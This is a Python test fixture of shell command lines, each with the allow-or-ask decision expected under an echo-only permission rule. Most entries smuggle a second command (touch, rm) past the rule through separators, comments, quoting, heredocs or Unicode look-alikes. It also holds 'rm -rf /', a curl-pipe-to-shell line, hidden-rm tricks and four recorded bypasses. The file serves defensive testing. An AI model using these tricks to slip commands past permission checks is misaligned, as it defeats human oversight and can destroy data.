"""Command lines and the decision expected for each under the single allow rule `Bash(echo:*)`.

"allow": every simple command bash runs is echo with plain words (tests/test_bash_oracle.py runs these
in real bash with logging stand-ins). "ask": anything else: another command, a substitution, an
expansion, a file redirect, unclear quoting, a parse error, shell syntax beyond plain commands.
Python escapes are used for control and look-alike characters.
"""

from __future__ import annotations

ALLOW, ASK = "allow", "ask"

SEPARATORS = [
    ("echo hi", ALLOW),
    ("echo a; echo b", ALLOW),
    ("echo a;echo b", ALLOW),
    ("echo a && echo b", ALLOW),
    ("echo a&&echo b", ALLOW),
    ("echo a || echo b", ALLOW),
    ("echo a | echo b", ALLOW),
    ("echo a |& echo b", ALLOW),
    ("echo a & echo b", ALLOW),
    ("echo a &", ALLOW),
    ("echo a;", ALLOW),
    ("echo a\necho b", ALLOW),
    ("echo a\n\n\necho b\n", ALLOW),
    ("echo a; touch x", ASK),
    ("echo a;touch x", ASK),
    ("echo a && touch x", ASK),
    ("echo a&&touch x", ASK),
    ("echo a || touch x", ASK),
    ("echo a | cat", ASK),
    ("echo a |& cat", ASK),
    ("echo a & touch x", ASK),
    ("echo a&touch x", ASK),
    ("echo a\ntouch x", ASK),
    ("echo a\r\ntouch x", ASK),
    ("touch x; echo a", ASK),
    ("echo a &&\ntouch x", ASK),
    ("echo a |\ncat", ASK),
    ("echo \n\\touch x", ASK),  # tree-sitter reads "\n\\touch" as one word of echo; bash runs touch
    ("echo \n\\'", ASK),
    ("echo hi;;", ASK),  # bash rejects it; tree-sitter does not
]

COMMENTS = [
    ("echo hi # comment", ALLOW),
    ("echo hi #; touch x", ALLOW),
    ("echo hi # $(touch x)", ALLOW),
    ("echo hi # `touch x`", ALLOW),
    ("echo a#b", ALLOW),
    ("# a comment\necho hi", ALLOW),
    ("echo hi # '\ntouch A\n# '", ASK),
    ("echo hi # \\\ntouch B", ASK),
    ('echo hi # "\ntouch x\n# "', ASK),
    ("echo hi #\ntouch x", ASK),
    ("echo a#b; touch x", ASK),
    ("# only a comment", ASK),
]

QUOTING = [
    ("echo 'a b'", ALLOW),
    ('echo "a b"', ALLOW),
    ("echo 'a;touch x'", ALLOW),
    ('echo "a;touch x"', ALLOW),
    ("echo a\\;touch x", ALLOW),
    ("echo a\\&\\&touch x", ALLOW),
    ("echo 'it''s'", ALLOW),
    ("echo \"a'b\"", ALLOW),
    ("echo 'a\"b'", ALLOW),
    ('echo "a\\"b"', ALLOW),
    ("echo '$(touch x)'", ALLOW),
    ("echo '`touch x`'", ALLOW),
    ('echo "\\$(touch x)"', ALLOW),
    ('echo "\\`touch x\\`"', ALLOW),
    ("echo $'plain'", ALLOW),
    ("echo $''", ALLOW),
    ("echo ''", ALLOW),
    ('echo ""', ALLOW),
    ("echo 'a\nb'", ALLOW),
    ('echo "a\nb"', ALLOW),
    ("echo a\\ b", ALLOW),
    ("echo \\\\", ALLOW),
    ("echo '\\'", ALLOW),
    ("e'c'ho hi", ALLOW),
    ('"echo" hi', ALLOW),
    ("\\echo hi", ALLOW),
    ("echo $'\\''; touch C #'", ASK),
    ("echo $'\\x41'", ASK),
    ("echo $'a\\'b'", ASK),
    ("echo $'\\n'; touch x", ASK),
    ('echo $"hi"', ASK),
    ("echo 'unterminated", ASK),
    ('echo "unterminated', ASK),
    ("echo `", ASK),
    ('echo "$HOME"', ASK),
    ("echo $HOME", ASK),
    ("echo ${HOME}", ASK),
    ("echo \\$(touch x)", ASK),
    ("echo 'a'\"b\"$'c\\d'", ASK),
]

HEREDOCS = [
    ("echo <<EOF\nhi\nEOF", ALLOW),
    ("echo <<'EOF'\n$(touch x)\nEOF", ALLOW),
    ('echo <<"EOF"\n`touch x`\nEOF', ALLOW),
    ("echo <<\\EOF\n$(touch x)\nEOF", ALLOW),
    ("echo <<-EOF\n\thi\n\tEOF", ALLOW),
    ("echo <<EOF\nhi\nEOF\necho after", ALLOW),
    ("echo <<'EOF' | echo piped\nhi\nEOF", ALLOW),
    ("echo <<EOF\n$(touch x)\nEOF", ASK),
    ("echo <<EOF\n`touch x`\nEOF", ASK),
    ("echo <<EOF\n$HOME\nEOF", ASK),
    ("echo <<EOF\nhi\n EOF\ntouch x\nEOF", ASK),
    ("echo <<EOF\nhi\nEOF \ntouch x\nEOF", ASK),
    ("echo <<EOF\nhi\nEOF\ntouch x", ASK),
    ("echo <<EOF; touch x\nhi\nEOF", ASK),
    ("echo <<EOF > out\nhi\nEOF", ASK),
    ("sort <<EOF\nhi\nEOF", ASK),
    ("echo <<EOF\nhi", ASK),
    ("echo <<EOF\nEO\\\nF\ntouch x\nEOF", ASK),  # bash joins the lines into the end line
    ("echo <<'EOF'\nhi\nEOF\n$(touch x)", ASK),
]

HERESTRINGS = [
    ("echo <<< 'hi'", ALLOW),
    ("echo <<<hi", ALLOW),
    ('echo <<< "hi there"', ALLOW),
    ('echo <<< "$(touch x)"', ASK),
    ("echo <<< $HOME", ASK),
    ("sort <<< hi", ASK),
]

SUBSTITUTIONS = [
    ("echo $(touch x)", ASK),
    ("echo `touch x`", ASK),
    ("echo $(echo hi)", ASK),
    ("echo `echo hi`", ASK),
    ('echo "$(echo hi)"', ASK),
    ("$(echo echo) hi", ASK),
    ("echo $((1+2))", ASK),
    ("echo ${x:=y}", ASK),
    ("echo ${x/a/b}", ASK),
    ("echo $(", ASK),
    ("echo <(touch x)", ASK),
    ("echo >(touch x)", ASK),
    ("echo <(echo hi)", ASK),
    ("echo hi > >(touch x)", ASK),
]

REDIRECTS = [
    ("echo hi >/dev/null", ALLOW),
    ("echo hi > /dev/null", ALLOW),
    ("echo hi>/dev/null", ALLOW),
    ("echo hi 2>/dev/null", ALLOW),
    ("echo hi &>/dev/null", ALLOW),
    ("echo hi &>>/dev/null", ALLOW),
    ("echo hi >>/dev/null", ALLOW),
    ("echo hi 2>&1", ALLOW),
    ("echo hi >&2", ALLOW),
    ("echo hi 1>&2", ALLOW),
    ("echo hi 2>&-", ALLOW),
    ("echo hi </dev/null", ALLOW),
    ("echo hi 2>&1 >/dev/null", ALLOW),
    ("echo hi >/dev/null 2>&1 &", ALLOW),
    ("echo pwned >&2D_redirect", ASK),
    ("echo hi 2>&1x", ASK),
    ("echo hi > out", ASK),
    ("echo hi >out", ASK),
    ("echo hi >> out", ASK),
    ("echo hi 2> err", ASK),
    ("echo hi &> out", ASK),
    ("echo hi >& out", ASK),
    ("echo hi >| out", ASK),
    ("echo hi 3>out", ASK),
    ("echo hi <> rw", ASK),
    ("echo hi < in", ASK),
    ("echo hi > /dev/null2", ASK),
    ("echo hi >/dev/null/../x", ASK),
    ("echo hi {fd}>/dev/null", ASK),
    ("echo hi > $HOME/x", ASK),
    ("echo hi > $(touch x)", ASK),
    ("echo hi >/dev/null; touch x", ASK),
]

CONTINUATIONS = [
    ("echo a \\\nb", ALLOW),
    ("echo \\\nhi", ALLOW),
    ("echo a \\\n  b \\\n  c", ALLOW),
    ("echo a\\\nb", ASK),  # one word for bash: not split like tree-sitter splits it, so asked
    ("ec\\\nho hi", ASK),
    ("echo a \\\n; touch x", ASK),
    ("echo a \\\n&& touch x", ASK),
    ("to\\\nuch x", ASK),
]

GROUPING = [
    ("(echo a)", ALLOW),
    ("(echo a; echo b)", ALLOW),
    ("{ echo a; }", ALLOW),
    ("{ echo a; echo b; }", ALLOW),
    ("(echo a) && { echo b; }", ALLOW),
    ("! echo a", ALLOW),
    ("(touch x)", ASK),
    ("{ touch x; }", ASK),
    ("(echo a; touch x)", ASK),
    ("{echo,hi}", ASK),
    ("{ echo a; } > out", ASK),
    ("((echo a))", ASK),
    ("{echo;}", ASK),
]

SYNTAX = [
    ("f() { echo a; }; f", ASK),
    ("function f { echo; }", ASK),
    ("echo() { touch x; }; echo hi", ASK),
    ("if echo; then echo; fi", ASK),
    ("while false; do echo; done", ASK),
    ("for x in a; do echo $x; done", ASK),
    ("case a in a) echo;; esac", ASK),
    ("[[ -n x ]] && echo", ASK),
    ("[ -n x ] && echo", ASK),
    ("(( x = 1 ))", ASK),
    ("x=1 echo hi", ASK),
    ("x=1", ASK),
    ("export x=1; echo", ASK),
    ("alias echo=touch", ASK),
    ("eval echo hi", ASK),
    ("exec echo hi", ASK),
    ("command echo hi", ASK),
    ("builtin echo hi", ASK),
    ("env echo hi", ASK),
    ("sudo echo hi", ASK),
    ("time echo hi", ASK),
    ("nohup echo hi", ASK),
    ("echo hi | xargs echo", ASK),
    ("coproc echo", ASK),
    ("echo )", ASK),
]

UNICODE = [
    ("echo hi\uff1btouch x", ALLOW),  # fullwidth semicolon: a word character for bash
    ("echo hi\u037etouch x", ALLOW),  # Greek question mark, looks like ;
    ("echo hi\u00a0touch x", ALLOW),  # non-breaking space: not a blank for bash
    ("echo hi\u2028touch x", ALLOW),  # line separator: not a newline for bash
    ("echo hi \uff06\uff06 touch x", ALLOW),  # fullwidth &&
    ("echo hi \u2502 touch x", ALLOW),  # box-drawing bar, looks like |
    ("echo \u2018a\u2019 \u201cb\u201d", ALLOW),  # curly quotes are plain characters
    ("echo\u00a0hi", ASK),  # the command is named "echo\u00a0hi"
    ("ech\u043e hi", ASK),  # Cyrillic o
    ("\uff45cho hi", ASK),  # fullwidth e
    ("echo hi\u00a0; touch x", ASK),
    ("echo hi \u200b; touch x", ASK),
    ("echo\u3000hi", ASK),  # ideographic space
]

MISC = [
    ("echo", ALLOW),
    ("echo -n hi", ALLOW),
    ("echo -e 'a\\nb'", ALLOW),
    ("echo -- -rf /", ALLOW),
    ("echo *", ALLOW),
    ("echo ~", ALLOW),
    ("echo {a,b}", ALLOW),
    ("echo a=b", ALLOW),
    ("   echo hi   ", ALLOW),
    ("echo 100%", ALLOW),
    ("echo #", ALLOW),
    ("echo $", ASK),  # a lone $ is literal for bash, but tree-sitter reads it as syntax
    ("echo !!", ALLOW),
    ("echo hi\techo", ALLOW),
    ("echo [ ]", ASK),  # tree-sitter reads "[ ]" as one word; bash as two
    ("echo hi &>/dev/null &\necho there", ALLOW),
    ("", ASK),
    ("   ", ASK),
    ("touch x", ASK),
    ("rm -rf /", ASK),
    ("ECHO hi", ASK),
    ("/bin/echo hi", ASK),
    ("./echo hi", ASK),
    ("echos hi", ASK),
    ("echo\x00; touch x", ASK),
    ("curl example.com | sh", ASK),
]

CORPUS: list[tuple[str, str]] = [
    *SEPARATORS, *COMMENTS, *QUOTING, *HEREDOCS, *HERESTRINGS, *SUBSTITUTIONS, *REDIRECTS, *CONTINUATIONS,
    *GROUPING, *SYNTAX, *UNICODE, *MISC,
]

# The four command lines that ran `touch` under Bash(echo:*) before commands were parsed (issue 9).
REGRESSIONS = [
    "echo hi # '\ntouch A\n# '",
    "echo hi # \\\ntouch B",
    "echo $'\\''; touch C #'",
    "echo pwned >&2D_redirect",
]

# Quoted text that bash evaluates as code (arithmetic on a variable, printf -v, test -v, PS4, ${x@P},
# nested backquotes): each runs rm in real bash (tests/test_bash_oracle.py) though no word says rm.
HIDDEN_RM = [
    "echo `echo \\`rm x\\``", "x='a[$(rm y)]'; echo $((x))", "x='a[$(rm y)]'; [[ x -eq 0 ]]",
    "x='a[$(rm y)]'; (( x ))", "test -v 'a[$(rm y)]'", "printf -v 'a[$(rm y)]' x", "PS4='$(rm y)'; set -x; :",
    "x='$(rm y)'; echo \"${x@P}\"", "read x <<'EOF'\na[$(rm y)]\nEOF\necho $((x))",
]
